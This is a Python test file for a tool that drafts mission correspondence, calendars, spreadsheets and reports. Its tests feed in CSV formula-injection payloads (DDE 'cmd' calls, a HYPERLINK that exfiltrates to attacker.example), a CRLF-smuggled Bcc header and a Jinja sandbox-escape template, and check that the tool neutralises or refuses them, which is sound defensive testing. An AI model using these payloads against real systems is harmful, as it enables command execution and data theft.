"""Artefacts opened in the tools a mission uses: e-mail drafts read by a strict parser, the
calendar by two validators, spreadsheets read back by LibreOffice Calc and openpyxl.

Each test opens the file the way the other tool does and looks at what it sees.
"""

from __future__ import annotations

import csv
import email
import io
import shutil
import subprocess
from datetime import date
from email import policy

import docx
import pytest

from commresp import mail
from commresp.errors import BadInput

ENQUIRIES = "correspondence/AL-BEL-1-2025/enquiries"
OUT = "correspondence/AL-BEL-1-2025/out"


def strict(path):
    """The message as a strict RFC 5322 parser reads it (any defect raises)."""
    message = email.message_from_bytes(path.read_bytes(), policy=policy.strict)
    assert not message.defects
    for part in message.walk():
        assert not part.defects
    for name, value in message.items():
        assert not getattr(value, "defects", ()), (name, value.defects)
    return message


def crlf_only(data: bytes) -> bool:
    """Every line ends in CRLF: no bare LF, no bare CR."""
    return data.count(b"\n") == data.count(b"\r\n") == data.count(b"\r") and b"\r\n" in data


# --- e-mail drafts -------------------------------------------------------------------------


@pytest.fixture
def mailed(registered):
    """AL BEL 1/2025 asked of Myria, whose contact is written with a name, and of the
    Federal Police (bare address); both answered, the reply drafted, rendered and sent."""
    run = registered
    run("agencies", "edit", "myria", "--email", "Myria – Service juridique <legal@myria.example>")
    run("agencies", "edit", "federal-police", "--email", "contact@police.example")
    run(
        "assign",
        "AL BEL 1/2025",
        "--agency",
        "myria",
        "--agency",
        "federal-police",
        "--due",
        "2025-08-20",
        "--question",
        "Are the persons named known to your services?",
    )
    return run


def test_enquiry_drafts_parse_strictly_with_crlf_and_names(mailed):
    path = mailed.root / ENQUIRIES / "enquiry-myria.eml"
    data = path.read_bytes()
    assert crlf_only(data)
    message = strict(path)
    assert message["X-Unsent"] == "1"  # opens as a draft in Outlook and Thunderbird
    (to,) = message["To"].addresses
    assert (to.display_name, to.addr_spec) == ("Myria – Service juridique", "legal@myria.example")
    (sender,) = message["From"].addresses
    assert (sender.display_name, sender.addr_spec) == (
        "Représentation permanente de la Belgique",
        "geneva@diplobel.fed.be",
    )
    assert "AL BEL 1/2025" in message["Subject"]
    body = message.get_body(("plain",)).get_content()
    assert "la réponse de la Belgique" in body
    (attachment,) = message.iter_attachments()
    assert attachment.get_filename() == "enquiry-myria.fr.docx"
    assert attachment.get_content_type() == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
    docx.Document(io.BytesIO(attachment.get_content()))
    # no line longer than RFC 5322's 998 characters, none but ASCII in the headers
    assert max(len(line) for line in data.split(b"\r\n")) <= 998
    head = data.split(b"\r\n\r\n", 1)[0]
    assert head.isascii()
    police = strict(mailed.root / ENQUIRIES / "enquiry-federal-police.eml")
    assert police["To"].addresses[0].display_name == ""
    assert police["To"].addresses[0].addr_spec == "contact@police.example"


def test_agency_list_keeps_the_display_name(mailed):
    agencies = {a["slug"]: a for a in mailed.json("agencies")}
    assert agencies["myria"]["email"] == "Myria – Service juridique <legal@myria.example>"


def test_reminders_parse_strictly(mailed, monkeypatch):
    monkeypatch.setenv("COMMRESP_TODAY", "2025-08-25")  # myria's answers were due 2025-08-20
    mailed("remind", "AL BEL 1/2025", "--agency", "myria")
    (reminder,) = (mailed.root / ENQUIRIES).glob("enquiry-myria.reminder-*.eml")
    assert crlf_only(reminder.read_bytes())
    message = strict(reminder)
    assert message["X-Unsent"] == "1"
    assert message["To"].addresses[0].display_name == "Myria – Service juridique"


def test_reply_to_the_registry_parses_strictly(mailed):
    mailed("answer", "add", "AL BEL 1/2025", "--agency", "myria", "--text", "None is known.")
    mailed("answer", "add", "AL BEL 1/2025", "--agency", "federal-police", "--text", "No trace.")
    mailed("draft", "AL BEL 1/2025", "--date", "2025-08-01")
    mailed("render", "AL BEL 1/2025")
    mailed("send", "AL BEL 1/2025")
    (path,) = (mailed.root / OUT).glob("reply-*.eml")
    assert crlf_only(path.read_bytes())
    message = strict(path)
    assert message["X-Unsent"] == "1"
    (sender,) = message["From"].addresses
    # the note verbale's language (French for Belgium) names the mission
    assert (sender.display_name, sender.addr_spec) == (
        "Représentation permanente de la Belgique",
        "geneva@diplobel.fed.be",
    )
    assert message["To"].addresses[0].addr_spec == "ohchr-registry@un.org"
    names = sorted(a.get_filename() for a in message.iter_attachments())
    assert names == ["note_verbale.fr.v1.docx", "response.en.v1.docx"]
    for attachment in message.iter_attachments():
        docx.Document(io.BytesIO(attachment.get_content()))


@pytest.mark.parametrize(
    "text,name,spec",
    [
        ("contact@police.example", "", "contact@police.example"),
        ("Federal Police <contact@police.example>", "Federal Police", "contact@police.example"),
        ('"Police, federal" <contact@police.example>', "Police, federal", "contact@police.example"),
        ("  <contact@police.example> ", "", "contact@police.example"),
        ("Myria <info@exämple.be>", "Myria", "info@xn--exmple-cua.be"),
    ],
)
def test_parse_address_accepts_one_address(text, name, spec):
    address = mail.parse_address(text)
    assert (address.display_name, address.addr_spec) == (name, spec)


@pytest.mark.parametrize(
    "text,says",
    [
        ("a@police.example, b@police.example", "more than one address"),
        ("a@police.example;b@police.example", "more than one address"),
        ("A <a@police.example>, B <b@police.example>", "more than one address"),
        ("Police\r\nBcc: x@evil.example <a@police.example>", "line break or control"),
        ("contact@", "is not an e-mail address"),
        ("contact", "is not an e-mail address"),
        ("", "is empty"),
    ],
)
def test_parse_address_refuses_anything_else(text, says):
    with pytest.raises(BadInput, match=says):
        mail.parse_address(text)


def test_agency_address_refused_at_input_changes_nothing(registered):
    before = {a["slug"]: a["email"] for a in registered.json("agencies")}
    result = registered(
        "agencies", "edit", "myria", "--email", "a@myria.example, b@myria.example", code=2
    )
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
    assert "more than one address" in result.stderr
    assert {a["slug"]: a["email"] for a in registered.json("agencies")} == before


# --- the calendar --------------------------------------------------------------------------


@pytest.fixture
def diary(mailed):
    """Myria has answered AL BEL 1/2025, the police not yet; UA BEL 2/2025 is closed."""
    mailed("answer", "add", "AL BEL 1/2025", "--agency", "myria", "--text", "None is known.")
    mailed("register", "UA BEL 2/2025", "--date", "2025-07-25", "--mandate", "torture")
    mailed("close", "UA BEL 2/2025", "--reason", "joined to AL BEL 1/2025")
    return mailed


def ics(run, tmp_path):
    out = tmp_path / "deadlines.ics"
    run("export", "--format", "ics", "-o", str(out))
    return out.read_bytes()


def events_by_uid(data):
    from icalendar import Calendar

    return {str(e["uid"]): e for e in Calendar.from_ical(data).walk("VEVENT")}


def test_calendar_validates_in_icalendar_and_vobject(diary, tmp_path):
    import vobject

    data = ics(diary, tmp_path)
    assert crlf_only(data)
    parsed = vobject.readOne(data.decode("utf-8"), validate=True)
    assert parsed.validate(raiseException=True)
    uids = {e.uid.value for e in parsed.vevent_list}
    assert uids == {
        "AL-BEL-1-2025.reply@commresp",
        "AL-BEL-1-2025.myria.due@commresp",
        "AL-BEL-1-2025.federal-police.due@commresp",
        "UA-BEL-2-2025.reply@commresp",
    }
    for event in parsed.vevent_list:
        assert event.transp.value == "TRANSPARENT"  # a due date is not a busy day
        assert int(event.sequence.value) >= 1
        assert event.dtstamp.value.isoformat() == "2025-08-01T00:00:00+00:00"  # COMMRESP_TODAY


def test_calendar_reminds_and_cancels(diary, tmp_path):
    from datetime import date, timedelta

    events = events_by_uid(ics(diary, tmp_path))
    reply = events["AL-BEL-1-2025.reply@commresp"]
    assert reply["dtstart"].dt == date(2025, 9, 20)
    assert str(reply["status"]) == "CONFIRMED"
    (alarm,) = reply.walk("VALARM")
    assert alarm["trigger"].dt == timedelta(days=-3)  # the profile's default
    assert str(alarm["action"]) == "DISPLAY" and "reply due" in str(alarm["description"])
    police = events["AL-BEL-1-2025.federal-police.due@commresp"]
    assert str(police["status"]) == "CONFIRMED" and police.walk("VALARM")
    # answered, closed: cancelled, without a reminder
    for uid in ("AL-BEL-1-2025.myria.due@commresp", "UA-BEL-2-2025.reply@commresp"):
        assert str(events[uid]["status"]) == "CANCELLED", uid
        assert not events[uid].walk("VALARM")


def test_calendar_sequence_grows_with_each_change(diary, tmp_path):
    before = events_by_uid(ics(diary, tmp_path))
    diary("edit", "AL BEL 1/2025", "--date", "2025-07-23")
    after = events_by_uid(ics(diary, tmp_path))
    uid = "AL-BEL-1-2025.reply@commresp"
    assert after[uid]["sequence"] > before[uid]["sequence"]
    assert str(after[uid]["dtstart"].to_ical()) != str(before[uid]["dtstart"].to_ical())
    # a replied communication's events are cancelled too
    diary("answer", "add", "AL BEL 1/2025", "--agency", "federal-police", "--text", "No trace.")
    diary("draft", "AL BEL 1/2025", "--date", "2025-08-01")
    diary("render", "AL BEL 1/2025", "--lang", "en")
    diary("mark-sent", "AL BEL 1/2025", "--on", "2025-08-01")
    sent = events_by_uid(ics(diary, tmp_path))
    assert {str(e["status"]) for e in sent.values()} == {"CANCELLED"}
    assert sent[uid]["sequence"] > after[uid]["sequence"]


def test_calendar_alarm_days_from_the_profile(diary, tmp_path):
    from datetime import timedelta

    profile = diary.root / "commresp.toml"
    text = profile.read_text(encoding="utf-8")
    assert "alarm_days = 3" in text  # the default, documented in the profile
    profile.write_text(text.replace("alarm_days = 3", "alarm_days = 7"), encoding="utf-8")
    reply = events_by_uid(ics(diary, tmp_path))["AL-BEL-1-2025.reply@commresp"]
    assert reply.walk("VALARM")[0]["trigger"].dt == timedelta(days=-7)
    profile.write_text(text.replace("alarm_days = 3", "alarm_days = 0"), encoding="utf-8")
    assert not events_by_uid(ics(diary, tmp_path))["AL-BEL-1-2025.reply@commresp"].walk("VALARM")
    profile.write_text(text.replace("alarm_days = 3", 'alarm_days = "soon"'), encoding="utf-8")
    result = diary("export", "--format", "ics", code=1)
    assert result.stderr == (
        "Error: commresp.toml: calendar.alarm_days must be a whole number of days from 0 to 60, "
        "e.g. 3\n"
    )


# --- spreadsheets --------------------------------------------------------------------------

HOSTILE = {
    "AL BEL 1/2025": "=cmd|' /C calc'!A0",
    "AL BEL 2/2025": "Trafficking;=1+1;case",
    "AL BEL 3/2025": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "AL BEL 4/2025": 'Siobhán Ó Briain, Łukasz; ‘quotes’ and "quotes", tab\tin',
    "AL BEL 5/2025": "-3",
    "AL BEL 6/2025": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def sheet_record(run):
    for i, (ref, subject) in enumerate(HOSTILE.items(), start=1):
        run(
            "register",
            ref,
            "--date",
            f"2025-07-{i:02d}",
            "--mandate",
            "torture",
            "--subject",
            subject,
        )
    return run


def soffice_convert(csv_path, out_dir, infilter=None):
    """LibreOffice Calc, headless, opens the CSV (with the import options given, as its
    Text Import dialog would) and saves it as .xlsx; the result read with openpyxl."""
    import openpyxl

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (CI installs libreoffice-calc-nogui)")
    profile = out_dir / "lo-profile"
    args = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
    if infilter:
        args.append(f"--infilter={infilter}")
    args += ["--convert-to", "xlsx", "--outdir", str(out_dir), str(csv_path)]
    done = subprocess.run(args, capture_output=True, text=True, timeout=120)
    converted = out_dir / (csv_path.stem + ".xlsx")
    if not converted.exists():
        pytest.fail(f"LibreOffice did not convert: {done.stdout} {done.stderr}")
    return openpyxl.load_workbook(converted).active


@pytest.mark.slow
@pytest.mark.parametrize(
    "separator,infilter",
    [(",", "CSV:44,34,76,1"), (";", "CSV:59,34,76,1"), ("tab", "CSV:9,34,76,1")],
)
def test_csv_in_libreoffice_calc_runs_no_formula(sheet_record, tmp_path, separator, infilter):
    out = tmp_path / "communications.csv"
    sheet_record("export", "--format", "csv", "-o", str(out))
    sheet = soffice_convert(out, tmp_path, infilter)
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == [], f"Calc set to {separator!r} reads formulas: {formulas}"
    if separator == ",":
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        header = rows[0]
        assert header[0] == "reference"  # the BOM is read as such, not as text
        subjects = {r[0]: r[header.index("subject")] for r in rows[1:]}
        # Calc shows the text as it is, the apostrophe only before what would have run
        assert subjects["AL BEL 4/2025"] == HOSTILE["AL BEL 4/2025"]
        assert subjects["AL BEL 2/2025"] == "Trafficking;'=1+1;case"
        assert subjects["AL BEL 1/2025"] == "'" + HOSTILE["AL BEL 1/2025"]
        assert subjects["AL BEL 5/2025"] == -3  # a number, not a formula: left alone
        dates = {r[0]: r[header.index("date")] for r in rows[1:]}
        assert dates["AL BEL 1/2025"].date() == date(2025, 7, 1)  # read as a real date


def test_csv_quotes_every_field_and_reads_back_in_python(sheet_record):
    data = sheet_record("export", "--format", "csv").stdout_bytes
    assert data.startswith(b'\xef\xbb\xbf"reference",')
    lines = data.decode("utf-8-sig").split("\r\n")
    assert all(line.startswith('"') and line.endswith('"') for line in lines if line)
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    assert rows["AL BEL 4/2025"]["subject"] == HOSTILE["AL BEL 4/2025"]
    assert rows["AL BEL 6/2025"]["subject"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_xlsx_export_read_back_with_openpyxl(sheet_record, tmp_path):
    import openpyxl

    out = tmp_path / "communications.xlsx"
    result = sheet_record("export", "--format", "xlsx", "-o", str(out))
    assert f"Wrote {out}" in result.output
    book = openpyxl.load_workbook(out)
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["reference", "date", "type", "mandates"]
    assert all(c.font.bold for c in sheet[1])
    rows = {r[0].value: {h: c for h, c in zip(header, r, strict=True)} for r in sheet.iter_rows(2)}
    assert set(rows) == set(HOSTILE)
    for ref, subject in HOSTILE.items():
        cell = rows[ref]["subject"]
        assert cell.data_type == "s", (ref, cell.data_type)  # text, never a formula
        assert cell.value == subject  # exactly as typed: no apostrophe
    letter = rows["AL BEL 1/2025"]["date"]
    assert letter.is_date and letter.value.date() == date(2025, 7, 1)
    assert letter.number_format == "yyyy-mm-dd"
    assert rows["AL BEL 1/2025"]["reply_due"].value.date() == date(2025, 8, 30)
    assert rows["AL BEL 1/2025"]["on_time"].value is None
    widths = {h: sheet.column_dimensions[chr(ord("A") + i)].width for i, h in enumerate(header)}
    assert widths["subject"] > widths["type"] >= 10
    assert widths["subject"] <= 62
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.slow
def test_xlsx_opens_in_libreoffice_without_formulas(sheet_record, tmp_path):
    out = tmp_path / "communications.xlsx"
    sheet_record("export", "--format", "xlsx", "-o", str(out))
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (CI installs libreoffice-calc-nogui)")
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "csv",
            "--outdir",
            str(tmp_path / "back"),
            str(out),
        ],
        capture_output=True,
        timeout=120,
        check=True,
    )
    back = (tmp_path / "back" / "communications.csv").read_bytes().decode("utf-8", "replace")
    # Calc saved what it computed: a formula would have left its result, not its text
    assert HOSTILE["AL BEL 2/2025"] in back
    assert "=cmd|' /C calc'!A0" in back


def test_xlsx_goes_to_standard_output_when_it_is_not_a_terminal(sheet_record):
    # CliRunner's output is not a terminal: the bytes go to standard output
    data = sheet_record("export", "--format", "xlsx").stdout_bytes
    assert data.startswith(b"PK")


# --- the HTML report in a real browser ----------------------------------------------------

LONG_NAME_EN = (
    "Federal Public Service Justice, Directorate-General for Legislation and Fundamental Rights"
)
LONG_NAME_FR = (
    "SPF Justice, Direction générale de la Législation, des Libertés et Droits fondamentaux"
)
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--enable-logging=stderr",
    "--v=0",
]
# Written into a copy of the page only: where the browser laid out each chart and its bars.
PROBE = """<script>
const found = [...document.querySelectorAll("svg.chart")].map(svg => {
  const box = svg.getBoundingClientRect();
  const bars = [...svg.querySelectorAll("rect.bar")].filter(r => {
    const b = r.getBoundingClientRect(), s = getComputedStyle(r);
    return b.width > 0 && b.height > 0 && s.visibility === "visible" && s.display !== "none";
  });
  const texts = [...svg.querySelectorAll("text")].map(t => {
    const b = t.getBoundingClientRect();
    const inside = b.left >= box.left - 0.5 && b.right <= box.right + 0.5
      && b.top >= box.top - 0.5 && b.bottom <= box.bottom + 0.5;
    return {text: t.textContent, inside};
  });
  return {id: svg.id, width: box.width, height: box.height, bars: bars.length, texts};
});
const out = document.createElement("pre");
out.id = "probe";
out.textContent = JSON.stringify(found);
document.body.appendChild(out);
</script>"""


def chromium():
    import shutil

    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    pytest.skip("Chromium is not installed (CI installs Debian's chromium package)")


def browse_page(page, tmp_path, *extra):
    """Chromium opens the page; its standard output and its log (console messages)."""
    profile = tmp_path / f"chromium-{page.stem}-{len(extra)}"
    done = subprocess.run(
        [chromium(), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", *extra, page.as_uri()],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout, done.stderr


@pytest.fixture
def reported(diary, tmp_path):
    """The record of the calendar tests, plus an agency with a long name that has answered."""
    diary(
        "agencies",
        "add",
        "fps-justice-dg",
        "--name-en",
        LONG_NAME_EN,
        "--name-fr",
        LONG_NAME_FR,
        "--language",
        "fr",
    )
    diary(
        "assign",
        "AL BEL 1/2025",
        "--agency",
        "fps-justice-dg",
        "--due",
        "2025-08-20",
        "--question",
        "Findings?",
    )
    diary("answer", "add", "AL BEL 1/2025", "--agency", "fps-justice-dg", "--text", "Nothing.")
    pages = {}
    for lang in ("fr", "en", "es"):
        pages[lang] = tmp_path / f"report-2025.{lang}.html"
        diary("report", "--year", "2025", "--lang", lang, "--html", str(pages[lang]))
    return pages


def artefact_dir():
    """Where screenshots are kept for CI to collect: the system's temporary folder."""
    import tempfile
    from pathlib import Path

    folder = Path(tempfile.gettempdir()) / "commresp-test-artefacts"
    folder.mkdir(exist_ok=True)
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("lang", ["fr", "en", "es"])
def test_report_in_headless_chromium(reported, tmp_path, lang):
    import json
    import re

    page = reported[lang]
    # 1. the page as written: it loads with no console message at all, and looks right
    shot = artefact_dir() / f"report-2025.{lang}.png"
    shot.unlink(missing_ok=True)
    _, log = browse_page(page, tmp_path, f"--screenshot={shot}", "--window-size=1200,2600")
    assert not re.findall(r":CONSOLE[^\n]*", log), log
    assert shot.exists() and shot.read_bytes().startswith(b"\x89PNG")
    # 2. a copy with a probe: where Chromium laid out every chart and its bars
    probed = tmp_path / f"probed.{lang}.html"
    probed.write_text(page.read_text(encoding="utf-8").replace("</body>", PROBE + "</body>"))
    dom, log = browse_page(probed, tmp_path, "--dump-dom", "--window-size=1200,2600")
    charts = json.loads(re.search(r'<pre id="probe">(.*?)</pre>', dom, re.S)[1])
    assert [c["id"] for c in charts] == ["chart-replies", "chart-months", "chart-agencies"]
    for chart in charts:
        assert chart["width"] > 200 and chart["height"] > 100, chart
        assert chart["bars"] >= 1, chart
        outside = [t["text"] for t in chart["texts"] if not t["inside"]]
        assert outside == [], f"{chart['id']}: text cut at the edge: {outside}"
    agency_texts = " ".join(t["text"] for t in charts[2]["texts"])
    long_name = LONG_NAME_FR if lang == "fr" else LONG_NAME_EN
    # whole, not cut (wrapped lines are tspans, joined here without their spaces)
    assert "".join(long_name.split()) in "".join(agency_texts.split())


@pytest.mark.slow
def test_french_report_headings_are_french(reported, tmp_path):
    import re
    from html import unescape

    dom, _ = browse_page(reported["fr"], tmp_path, "--dump-dom")
    assert '<html lang="fr">' in dom
    headings = [unescape(h) for h in re.findall(r"<h[12]>(.*?)</h[12]>", dom)]
    assert headings == [
        "Réponses aux communications des procédures spéciales, 2025",
        "Réponses par rapport à la date de réponse",
        "Lettres par mois",
        "Réponses tardives",
        "Par type de lettre",
        "Délais de réponse des services",
        "Par mandat",
    ]
    assert "au 1er août 2025" in unescape(dom)


def test_report_language_follows_the_profile(diary, tmp_path):
    out = tmp_path / "r.html"
    diary("report", "--year", "2025", "--html", str(out))
    assert '<html lang="fr">' in out.read_text(encoding="utf-8")  # Belgium's note verbale: fr
    profile = diary.root / "commresp.toml"
    text = profile.read_text(encoding="utf-8")
    profile.write_text(text.replace("[languages]\n", '[languages]\nreport = "es"\n'))
    diary("report", "--year", "2025", "--html", str(out))
    html = out.read_text(encoding="utf-8")
    assert '<html lang="es">' in html and "Cartas por mes" in html
    assert "1 de agosto de 2025" in html


def test_a_workspace_template_overrides_the_report(diary, tmp_path):
    templates = diary.root / "templates"
    templates.mkdir(exist_ok=True)
    (templates / "report.html.j2").write_text(
        "<!DOCTYPE html><title>{{ t.title.format(year=report.year) }}</title>"
        "<p>{{ report.communications[0].ref }} {{ '<b>' }}</p>\n",
        encoding="utf-8",
    )
    (templates / "report.en.toml").write_text('title = "Our own {year}"\n', encoding="utf-8")
    out = tmp_path / "r.html"
    diary("report", "--year", "2025", "--lang", "en", "--html", str(out))
    html = out.read_text(encoding="utf-8")
    assert "<title>Our own 2025</title>" in html
    assert "&lt;b&gt;" in html  # values are escaped
    (templates / "report.html.j2").write_text("{{ ''.__class__.__mro__ }}", encoding="utf-8")
    result = diary("report", "--year", "2025", "--html", str(out), code=1)
    assert result.stderr.startswith("Error: template report.html.j2") and "sandbox" in result.stderr
